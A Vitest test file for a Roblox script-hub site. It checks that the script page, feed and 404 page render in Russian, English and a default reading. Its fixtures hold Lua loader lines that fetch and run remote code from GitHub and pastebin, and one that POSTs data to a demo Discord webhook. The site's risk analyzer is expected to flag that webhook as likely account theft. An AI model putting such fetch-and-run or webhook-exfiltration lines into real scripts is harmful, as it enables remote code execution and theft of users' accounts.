import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scriptPath } from '../../contract/slugs.ts';
import { formatDate } from '../../web/lib/format.ts';
import { createTestContext, type TestContext } from '../helpers/app.ts';
import { type Account, createAdmin, injectAs } from '../helpers/auth.ts';
import { insertExecutor, setCompatibility } from '../helpers/compatibility.ts';
import { dialects } from '../helpers/databases.ts';
import { insertScript } from '../helpers/factories.ts';
import { canonicalOf, jsonLd, linkTags, metaContent, visibleText } from '../helpers/html.ts';
import { insertGame, setFacts } from '../helpers/script-facts.ts';
import { scriptForm } from '../helpers/staff.ts';

/**
 * The script page in its three readings (issue 29; needs `npm run build`): `/ru/scripts/{id}-{slug}`
 * wholly Russian, `/en/…` wholly English, the unprefixed page as the specification writes it; each
 * with its own canonical link, the three `hreflang` alternates, `<html lang>` and JSON-LD in its
 * language; the script's feed and the missing script's page in the reading too.
 */

const SITE_URL = 'https://scripts.example';
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
const HUB = 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub.lua"))()';
const PASTE = 'loadstring(game:HttpGet("https://pastebin.com/raw/demo0000"))()';
const WEBHOOK = 'request({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST", Body = "stats" })';

/** The page's HTML a reader meets: without its scripts (the hydration data holds every message of the page) and the History section's data for the diff's chunk. */
function rendered(html: string): string {
  return html.replace(/<script[\s\S]*?<\/script>/g, '').replace(/ data-diff-texts="[^"]*"/g, '');
}

/** The text of the rendered body, tags dropped. */
function bodyText(html: string): string {
  const body = /<body[^>]*>([\s\S]*)<\/body>/.exec(rendered(html))?.[1] ?? '';
  return visibleText(body.replace(/<[^>]+>/g, ' ')).replace(/\s+/g, ' ');
}

/** `{name}` or `{n, plural, …}` left unfilled, or a raw message key (`detail.copy`). */
const PLACEHOLDER = /\{\s*\w+\s*(?:\}|,)/;
const RAW_KEY = /\b(?:detail|footerTexts|historyTexts|loaderReport|compatibility|report|votes|channelGate|subscriptions)\.\w+/;

type Feed = { '@_xml:lang'?: string; id: string; title: string; link: { '@_rel': string; '@_href': string }[]; entry?: { id: string; title: string; link: { '@_href': string }[]; content: { '#text': string } }[] };
const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@_', isArray: (name) => ['entry', 'link'].includes(name) });

describe.each(dialects)('the script page in three readings on %s', (dialect) => {
  let ctx: TestContext;
  let admin: Account;
  /** A script with a high finding, two versions and a game; a blank one; a gated one. */
  let hub: { id: number; path: string; createdAt: string };
  let blank: { id: number; path: string };
  let gated: { id: number; path: string };

  const get = (url: string) => ctx.app.inject({ method: 'GET', url, headers: { 'user-agent': BROWSER } });
  const page = async (url: string, status = 200) => {
    const response = await get(url);
    expect(response.statusCode, url).toBe(status);
    return { html: response.body, text: bodyText(response.body) };
  };

  beforeAll(async () => {
    ctx = await createTestContext(dialect, { web: true, env: { SITE_URL, SITE_NAME: 'ScriptHub' } });
    admin = await createAdmin(ctx);
    const created = await injectAs(ctx, admin, { method: 'POST', url: '/api/ac', payload: scriptForm({ playsname: 'Reading Hub', description: 'Auto farm for every island.', loadstring: `${HUB}\n${WEBHOOK}` }) });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().id as number;
    const edited = await injectAs(ctx, admin, { method: 'PATCH', url: `/api/update-script/${id}`, payload: scriptForm({ loadstring: `${HUB}\n${WEBHOOK}\n${PASTE}` }) });
    expect(edited.statusCode, edited.body).toBe(200);
    await setFacts(ctx, id, { gameId: await insertGame(ctx, 'Reading Game', 'reading-game') });
    const executor = await insertExecutor(ctx, { name: 'Reading Executor', slug: 'reading-executor', platforms: ['windows'], status: 'patched' });
    await setCompatibility(ctx, id, executor, { tested: true, worksYes: 1 });
    const versions = (await get(`/api/scripts/${id}/versions`)).json() as { version: number; createdAt: string }[];
    hub = { id, path: scriptPath({ id, playsname: 'Reading Hub' }), createdAt: versions.at(-1)?.createdAt ?? '' };

    const plain = await insertScript(ctx.services, { playsname: 'Blank Reading', description: '  ' });
    blank = { id: plain.id, path: scriptPath(plain) };
    const locked = await insertScript(ctx.services, { playsname: 'Gated Reading', channels: [{ name: 'reading_gate', url: 'https://t.me/reading_gate' }] });
    gated = { id: locked.id, path: scriptPath(locked) };
  });
  afterAll(async () => ctx?.close());

  it('serves /ru/scripts/{id}-{slug} wholly in Russian', async () => {
    const { html, text } = await page(`/ru${hub.path}`);
    expect(html).toMatch(/<html lang="ru"/);
    for (const said of [
      'К списку скриптов',
      'Описание',
      'Скрипт',
      'Получить скрипт',
      'Пожаловаться',
      'Нравится',
      'Не работает',
      'Где вы его запускали?',
      'Скопируйте загрузчик на вкладке «Скрипт»',
      'Копировать',
      'Загрузчик',
      'Что делает этот загрузчик',
      'Высокий риск: Отправляет данные на вебхук Discord или Guilded: так часто крадут данные аккаунтов.',
      'Внимание: этот загрузчик',
      'Загружает с',
      'Совместимость',
      'Пропатчен',
      'Проверен',
      'Нет известных рабочих экзекьюторов',
      'Факты о скрипте',
      'Просмотры',
      'Подписаться на канал',
      'Смотреть на YouTube',
      'Частые вопросы',
      'Как получить скрипт?',
      'Этот сайт безопасен?',
      'История',
      'Версия 2',
      'сохранена',
      'Первая версия',
      'Показать изменения',
      'Теперь загружает код через сокращатель ссылок или сервис для размещения текста',
      'Теперь загружает с pastebin.com',
      'Добавлен',
      formatDate(hub.createdAt, 'UTC', 'ru'),
      '0 просмотров',
    ]) {
      expect(text, said).toContain(said);
    }
    for (const english of ['Back to scripts', 'Get Script', 'Copy', 'Report', 'Like', 'What this loader does', 'Sends data to', 'Compatibility', 'Frequently asked questions', 'History', 'Version 2', 'Now fetches from', 'views', 'Created']) {
      expect(text, english).not.toContain(english);
    }
    expect(rendered(html)).not.toMatch(PLACEHOLDER);
    expect(rendered(html)).not.toMatch(RAW_KEY);
    // Its links stay in the reading: the list, the game, the executor's page.
    expect(html).toContain(`href="/ru/scripts"`);
    expect(html).toContain(`href="/ru/executors/reading-executor"`);
  });

  it('serves /en/scripts/{id}-{slug} wholly in English, with British dates', async () => {
    const { html, text } = await page(`/en${hub.path}`);
    expect(html).toMatch(/<html lang="en"/);
    for (const said of [
      'Back to scripts',
      'Get Script',
      'Copy',
      'Report',
      'Sends data to a Discord or Guilded webhook',
      'Compatibility',
      'Frequently asked questions',
      'History',
      'Version 2',
      'Now fetches from pastebin.com',
      'Created',
      formatDate(hub.createdAt, 'UTC', 'en'),
      '0 views',
    ]) {
      expect(text, said).toContain(said);
    }
    expect(formatDate(hub.createdAt, 'UTC', 'en')).toMatch(/^\d{1,2} [A-Z][a-z]{2} \d{4}$/);
    for (const russian of ['Описание', 'Скрипт', 'История', 'Копировать', 'Отправляет данные']) expect(text, russian).not.toContain(russian);
    expect(rendered(html)).not.toMatch(PLACEHOLDER);
    expect(html).toContain(`href="/en/executors/reading-executor"`);

    const empty = await page(`/en${blank.path}`);
    expect(empty.text).toContain('No description');
    expect(empty.text).not.toContain('Описание отсутствует');
  });

  it('keeps the specification’s reading as it was', async () => {
    const { html, text } = await page(hub.path);
    expect(html).toMatch(/<html lang="ru"/);
    for (const said of ['Back to scripts', 'Copy', 'Report', 'Sends data to a Discord or Guilded webhook', 'Frequently asked questions', 'History', 'Now fetches from pastebin.com', 'Created', formatDate(hub.createdAt, 'UTC'), '0 views']) {
      expect(text, said).toContain(said);
    }
    expect(html).toContain(`href="/executors/reading-executor"`);
    const code = jsonLd(html).find((item) => item['@type'] === 'SoftwareSourceCode');
    expect(code?.inLanguage).toBeUndefined();
    expect(code?.url).toBe(`${SITE_URL}${hub.path}`);
    expect(canonicalOf(html)).toBe(`${SITE_URL}${hub.path}`);
    expect((await page(blank.path)).text).toContain('Описание отсутствует');
  });

  it.each(['spec', 'en', 'ru'] as const)('links the %s reading to itself and to the other two', async (reading) => {
    const prefix = reading === 'spec' ? '' : `/${reading}`;
    const { html } = await page(`${prefix}${hub.path}`);
    const url = `${SITE_URL}${prefix}${hub.path}`;
    expect(canonicalOf(html)).toBe(url);
    expect(metaContent(html, 'property', 'og:url')).toBe(url);
    expect(metaContent(html, 'property', 'og:locale')).toBe(reading === 'en' ? 'en_GB' : 'ru_RU');
    const alternates = linkTags(html, 'alternate').filter((link) => link.hrefLang);
    expect(alternates.map((link) => [link.hrefLang, link.href])).toEqual([
      ['x-default', `${SITE_URL}${hub.path}`],
      ['en', `${SITE_URL}/en${hub.path}`],
      ['ru', `${SITE_URL}/ru${hub.path}`],
    ]);
    const feed = linkTags(html, 'alternate').find((link) => link.type === 'application/atom+xml');
    expect(feed?.href).toBe(`${SITE_URL}${prefix}${hub.path}/feed.xml`);
    expect(html.match(/rel="canonical"/g)).toHaveLength(1);
    expect(html.match(/property="og:url"/g)).toHaveLength(1);
  });

  it('says the head tags and the JSON-LD in the reading, with inLanguage', async () => {
    const ru = await page(`/ru${hub.path}`);
    const code = jsonLd(ru.html).find((item) => item['@type'] === 'SoftwareSourceCode');
    expect(code).toMatchObject({ inLanguage: 'ru', url: `${SITE_URL}/ru${hub.path}`, '@id': `${SITE_URL}/ru${hub.path}`, description: 'Auto farm for every island.' });
    const crumbs = jsonLd(ru.html).find((item) => item['@type'] === 'BreadcrumbList') as { itemListElement: { name: string; item: string }[] };
    expect(crumbs.itemListElement.map((crumb) => [crumb.name, crumb.item])).toEqual([
      ['Главная', `${SITE_URL}/ru`],
      ['Игры', `${SITE_URL}/ru/games`],
      ['Reading Game', `${SITE_URL}/ru/games/reading-game`],
      ['Reading Hub', `${SITE_URL}/ru${hub.path}`],
    ]);
    const en = await page(`/en${hub.path}`);
    expect(jsonLd(en.html).find((item) => item['@type'] === 'SoftwareSourceCode')).toMatchObject({ inLanguage: 'en', url: `${SITE_URL}/en${hub.path}` });

    const blankRu = await page(`/ru${blank.path}`);
    expect(metaContent(blankRu.html, 'name', 'description')).toBe('Blank Reading: бесплатный скрипт для Roblox. Скопируйте загрузчик в один клик и запустите его в экзекьюторе.');
    expect(blankRu.text).toContain('Описание отсутствует');
    expect(jsonLd(blankRu.html).find((item) => item['@type'] === 'BreadcrumbList')).toMatchObject({ itemListElement: [{ name: 'Главная' }, { name: 'Скрипты', item: `${SITE_URL}/ru/scripts` }, { name: 'Blank Reading' }] });
  });

  it('shows a gated script’s placeholder in the reading', async () => {
    expect((await page(`/ru${gated.path}`)).text).toContain('Проверяем ваши подписки…');
    expect((await page(`/en${gated.path}`)).text).toContain('Checking your subscriptions…');
  });

  it('answers a missing script in Russian under /ru/, and a stale slug moves within the reading', async () => {
    const missing = await page('/ru/scripts/999999', 404);
    expect(missing.html).toMatch(/<html lang="ru"/);
    expect(missing.text).toContain('Скрипт не найден');
    expect(missing.text).toContain('Запрошенного скрипта не существует');
    expect(missing.text).toContain('Вернуться к списку');
    expect(missing.text).not.toContain('Script not found');
    expect(missing.html).toContain('<title>Скрипт не найден — ScriptHub</title>');
    expect(missing.html).toContain('href="/ru/scripts"');
    expect(missing.html).toContain('<meta name="robots" content="noindex"/>');
    expect((await page('/en/scripts/999999', 404)).text).toContain('Script not found');
    expect((await page('/scripts/999999', 404)).text).toContain('The requested script does not exist');

    const stale = await get(`/ru/scripts/${hub.id}-old-name`);
    expect(stale.statusCode).toBe(301);
    expect(stale.headers.location).toBe(`/ru${hub.path}`);
    const staleFeed = await get(`/ru/scripts/${hub.id}-old-name/feed.xml`);
    expect(staleFeed.statusCode).toBe(301);
    expect(staleFeed.headers.location).toBe(`/ru${hub.path}/feed.xml`);
  });

  it('serves /ru/scripts/{id}/feed.xml with Russian sentences and links to the Russian pages', async () => {
    const response = await get(`/ru${hub.path}/feed.xml`);
    expect(response.statusCode).toBe(200);
    expect(XMLValidator.validate(response.body)).toBe(true);
    const feed = (xml.parse(response.body) as { feed: Feed }).feed;
    expect(feed['@_xml:lang']).toBe('ru');
    expect(feed.id).toBe(`${SITE_URL}/ru/scripts/${hub.id}/feed.xml`);
    expect(feed.link.map((link) => link['@_href'])).toEqual([`${SITE_URL}/ru${hub.path}/feed.xml`, `${SITE_URL}/ru${hub.path}#history`]);
    const entries = feed.entry ?? [];
    expect(entries.map((entry) => entry.link[0]?.['@_href'])).toEqual([`${SITE_URL}/ru${hub.path}#version-2`, `${SITE_URL}/ru${hub.path}#version-1`]);
    expect(entries[0]?.content['#text']).toContain('Теперь загружает с pastebin.com');
    expect(entries[1]?.content['#text']).toContain('Добавляет отправку данных на вебхук Discord');
    expect(response.body).not.toContain('Now fetches from');

    const spec = (xml.parse((await get(`${hub.path}/feed.xml`)).body) as { feed: Feed }).feed;
    expect(spec['@_xml:lang']).toBeUndefined();
    expect(spec.id).toBe(`${SITE_URL}/scripts/${hub.id}/feed.xml`);
    expect(spec.entry?.[0]?.content['#text']).toContain('Now fetches from pastebin.com');
  });
});
